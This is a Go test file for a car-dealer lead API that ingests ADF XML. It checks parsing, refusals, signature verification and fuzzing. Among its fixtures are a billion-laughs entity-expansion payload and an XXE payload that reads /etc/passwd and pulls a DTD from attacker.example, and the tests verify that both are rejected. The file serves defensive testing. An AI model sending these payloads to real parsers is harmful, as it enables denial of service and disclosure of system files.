package api_test

import (
	"context"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/leadline/leadline/api"
	"github.com/leadline/leadline/dialer"
)

// adfDoc is an ADF 1.0 document with one prospect whose customer has phone.
func adfDoc(phone string) string {
	return `<?xml version="1.0" encoding="UTF-8"?>
<?adf version="1.0"?>
<adf>
  <prospect>
    <id sequence="1" source="AutoTrader">AT-1001</id>
    <requestdate>2026-11-30T09:12:44+01:00</requestdate>
    <vehicle interest="buy" status="used"><year>2023</year><make>Kia</make><model>Niro</model></vehicle>
    <customer>
      <contact>
        <name part="first">Sanne</name>
        <name part="last">de Vries</name>
        <phone type="voice">` + phone + `</phone>
        <email>sanne.devries@example.nl</email>
      </contact>
      <comments>Kan ik zaterdag proefrijden?</comments>
    </customer>
    <vendor><vendorname>Autobedrijf Jansen</vendorname></vendor>
    <provider><name>AutoTrader</name></provider>
  </prospect>
</adf>`
}

// adfInput is the lead adfDoc(phone) holds.
func adfInput(phone string) dialer.LeadInput {
	return dialer.LeadInput{
		Phone: phone, Name: "Sanne de Vries", Email: "sanne.devries@example.nl", Source: "AutoTrader",
		Interest: "2023 Kia Niro", Message: "Kan ik zaterdag proefrijden?", ExternalID: "AutoTrader:AT-1001",
		Channel: dialer.ChannelAPI,
	}
}

// TestCreateLeadADF: an ADF document posted with an API key, in any of its media
// types, is taken as its one prospect's lead on channel api (the <id> its external_id)
// and answered as a JSON post is: 202 with the lead, 200 and Idempotent-Replayed for a
// repeat.
func TestCreateLeadADF(t *testing.T) {
	for _, ct := range []string{"application/xml", "text/xml; charset=utf-8", "application/x-adf+xml", "application/xml; charset=iso-8859-1"} {
		t.Run(ct, func(t *testing.T) {
			ts := newServer(t, &fakeLeads{SubmitFn: submitOK(true)})
			rec := ts.do(t, "POST", "/v1/leads", adfDoc("06 12345678"),
				"Authorization", "Bearer "+keyJansen, "Content-Type", ct, "Idempotency-Key", "adf-1")
			if rec.Code != http.StatusAccepted {
				t.Fatalf("status %d, want 202: %s", rec.Code, rec.Body)
			}
			in := adfInput("06 12345678")
			in.IdempotencyKey = "adf-1"
			if want := []call{{Method: "Submit", Dealer: "jansen", Input: in}}; !slices.Equal(ts.leads.Calls(), want) {
				t.Errorf("calls\n got %+v\nwant %+v", ts.leads.Calls(), want)
			}
			if got := rec.Header().Get("Content-Type"); got != "application/json" {
				t.Errorf("answered as %q", got)
			}
			for _, want := range []string{`"id":"ld_new"`, `"external_id":"AutoTrader:AT-1001"`, `"channel":"api"`} {
				if !strings.Contains(rec.Body.String(), want) {
					t.Errorf("answer %s lacks %s", rec.Body, want)
				}
			}
			if loc := rec.Header().Get("Location"); loc != "/v1/leads/ld_new" {
				t.Errorf("Location %q", loc)
			}
		})
	}

	ts := newServer(t, &fakeLeads{SubmitFn: submitOK(false)})
	rec := ts.do(t, "POST", "/v1/leads", adfDoc("06 12345678"), "X-API-Key", keyJansen, "Content-Type", "application/xml")
	if rec.Code != http.StatusOK || rec.Header().Get("Idempotent-Replayed") != "true" {
		t.Errorf("repeat: status %d, Idempotent-Replayed %q: %s", rec.Code, rec.Header().Get("Idempotent-Replayed"), rec.Body)
	}
}

// utf16LE encodes s as UTF-16 with a byte order mark.
func utf16LE(s string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(u))
		b.WriteByte(byte(u >> 8))
	}
	return b.String()
}

// Hostile documents: each has a phone that would be called.
var (
	billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE adf [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<adf><prospect>
<customer><contact><name part="full">&lol9; Laugh</name><phone>06 12345678</phone></contact>
<comments>&lol9;</comments></customer>
</prospect></adf>`
	xxe = `<?xml version="1.0" encoding="UTF-8"?>
<?adf version="1.0"?>
<!DOCTYPE adf [
  <!entity xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<adf><prospect>
<customer><contact><name part="full">&xxe;</name><phone>06 12345678</phone></contact>
<comments>&xxe;</comments></customer>
</prospect></adf>`
)

// TestCreateLeadADFRefused covers what is refused of an ADF post before Submit: form
// keys (415, before the body is read), no key, documents with no ADF, no prospect or
// several, entity declarations (billion laughs, XXE: 400, whatever their encoding),
// documents too deep, bodies too large, and what the query and headers carry wrong.
// None reaches Submit.
func TestCreateLeadADFRefused(t *testing.T) {
	xml := []string{"Content-Type", "application/xml"}
	auth := append([]string{"Authorization", "Bearer " + keyJansen}, xml...)
	browser := []string{"Origin", originJansen}
	tests := []struct {
		name      string
		path      string
		headers   []string
		body      string
		status    int
		fields    []string
		detailHas string
		header    [2]string
		maxBody   int64
	}{
		{name: "form key in the query", path: "/v1/leads?form_key=" + formJansen, headers: append(slices.Clone(xml), browser...),
			body: adfDoc("06 12345678"), status: 415, detailHas: "api_keys",
			header: [2]string{"Accept-Post", "application/json, application/x-www-form-urlencoded"}},
		{name: "form key in a header", headers: append([]string{"X-API-Key", formJansen, "Content-Type", "text/xml"}, browser...),
			body: adfDoc("06 12345678"), status: 415, detailHas: "web form"},
		{name: "unknown form key in the query", path: "/v1/leads?form_key=nope", headers: xml, body: adfDoc("06 12345678"), status: 401},
		{name: "no key", headers: xml, body: adfDoc("06 12345678"), status: 401, detailHas: "API key"},
		{name: "several prospects", headers: auth, status: 422, fields: []string{"prospect"}, detailHas: "one prospect per request",
			body: strings.Replace(adfDoc("06 12345678"), "</adf>", "<prospect><customer><contact><phone>0687654321</phone></contact></customer></prospect></adf>", 1)},
		{name: "no prospect", headers: auth, body: `<?adf version="1.0"?><adf></adf>`, status: 422, fields: []string{"prospect"}},
		{name: "not ADF", headers: auth, body: `<lead><phone>0612345678</phone></lead>`, status: 400, detailHas: "no ADF document"},
		{name: "empty", headers: auth, body: " ", status: 400},
		{name: "billion laughs", headers: auth, body: billionLaughs, status: 400, detailHas: "declares entities"},
		{name: "xxe", headers: auth, body: xxe, status: 400, detailHas: "declares entities"},
		{name: "xxe in UTF-16", headers: auth, body: utf16LE(xxe), status: 400, detailHas: "declares entities"},
		{name: "too deep", headers: auth, status: 400, detailHas: "deeper than 64",
			body: strings.Replace(adfDoc("06 12345678"), "<vendor>", "<vendor>"+strings.Repeat("<x>", 80), 1)},
		{name: "too large", headers: auth, body: adfDoc("06 12345678"), maxBody: 100, status: 413},
		{name: "form fields in the query", path: "/v1/leads?redirect=https://www.jansen.example/", headers: auth,
			body: adfDoc("06 12345678"), status: 422, fields: []string{"redirect"}},
		{name: "all that is wrong at once", path: "/v1/leads?x=1", headers: append(slices.Clone(auth), "Idempotency-Key", ""),
			body:   `<adf><prospect><id>1</id></prospect><prospect><id>2</id></prospect></adf>`,
			status: 422, fields: []string{"x", "prospect", "Idempotency-Key"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ts := newServer(t, &fakeLeads{SubmitFn: submitOK(true), CheckFn: func(context.Context, string, dialer.LeadInput) (dialer.Lead, error) {
				return dialer.Lead{}, nil
			}}, func(o *api.Options) { o.MaxBodyBytes = tt.maxBody })
			path := cmpOr(tt.path, "/v1/leads")
			rec := ts.do(t, "POST", path, tt.body, tt.headers...)
			p := wantProblem(t, rec, tt.status, "/v1/leads", tt.fields...)
			if !strings.Contains(p.Detail, tt.detailHas) {
				t.Errorf("detail %q lacks %q", p.Detail, tt.detailHas)
			}
			if tt.header[0] != "" && rec.Header().Get(tt.header[0]) != tt.header[1] {
				t.Errorf("%s %q, want %q", tt.header[0], rec.Header().Get(tt.header[0]), tt.header[1])
			}
			if calls := ts.leads.Calls(); len(calls) != 0 {
				t.Errorf("a refused document reached Leads: %+v", calls)
			}
		})
	}
}

// TestCreateLeadADFInvalid: what the dialer refuses of an ADF lead is named by where it
// is in the document.
func TestCreateLeadADFInvalid(t *testing.T) {
	for _, tc := range []struct {
		name, doc, field, detail string
	}{
		{"premium number", adfDoc("0900-1234567"), "prospect/customer/contact/phone", "premium-rate"},
		{"no phone", strings.Replace(adfDoc(""), `<phone type="voice"></phone>`, "", 1), "prospect/customer/contact/phone", "has no <phone>"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ts := newServer(t, validatingLeads())
			rec := ts.do(t, "POST", "/v1/leads", tc.doc, "X-API-Key", keyJansen, "Content-Type", "application/xml")
			p := wantProblem(t, rec, 422, "/v1/leads", tc.field)
			if len(p.Errors) == 1 && !strings.Contains(p.Errors[0].Detail, tc.detail) {
				t.Errorf("detail %q lacks %q", p.Errors[0].Detail, tc.detail)
			}
		})
	}
}

// TestCreateLeadADFSigned: a dealer that requires signatures gets them on ADF bodies
// as on JSON: the same HMAC over timestamp + "." + the document's bytes.
func TestCreateLeadADFSigned(t *testing.T) {
	now := time.Unix(1_795_773_600, 0)
	ts := newServer(t, &fakeLeads{SubmitFn: submitOK(true)}, func(o *api.Options) { o.Now = func() time.Time { return now } })
	body := adfDoc("06 12345678")
	headers := []string{"X-API-Key", keySigned, "Content-Type", "application/x-adf+xml"}

	rec := ts.do(t, "POST", "/v1/leads", body, headers...)
	wantProblem(t, rec, http.StatusUnauthorized, "/v1/leads")
	rec = ts.do(t, "POST", "/v1/leads", body, append(slices.Clone(headers),
		api.HeaderTimestamp, strconv.FormatInt(now.Unix(), 10),
		api.HeaderSignature, api.Sign([]byte(secretSigned), now, []byte(body+" ")))...)
	wantProblem(t, rec, http.StatusUnauthorized, "/v1/leads")
	if calls := ts.leads.Calls(); len(calls) != 0 {
		t.Fatalf("unsigned or badly signed ADF reached Leads: %+v", calls)
	}
	rec = ts.do(t, "POST", "/v1/leads", body, append(slices.Clone(headers),
		api.HeaderTimestamp, strconv.FormatInt(now.Unix(), 10),
		api.HeaderSignature, api.Sign([]byte(secretSigned), now, []byte(body)))...)
	if rec.Code != http.StatusAccepted || len(ts.leads.Calls()) != 1 {
		t.Errorf("signed ADF: %d %s", rec.Code, rec.Body)
	}
}

// FuzzCreateLeadADF posts ADF with an API key: whatever the document, the answer is a
// lead or a 4xx problem.
func FuzzCreateLeadADF(f *testing.F) {
	for _, s := range []string{
		adfDoc("06 12345678"), adfDoc(""), billionLaughs, xxe, utf16LE(adfDoc("06 12345678")), utf16LE(xxe),
		`<adf><prospect><id>1</id></prospect><prospect><id>2</id></prospect></adf>`,
		`<?adf version="1.0"?>`, `<adf>`, "&lt;adf&gt;&lt;prospect&gt;", "<!ENTITY", "<!", "\x00<\x00!", "",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		fuzzCreate(t, "application/xml", body, "Authorization", "Bearer "+keyJansen)
	})
}
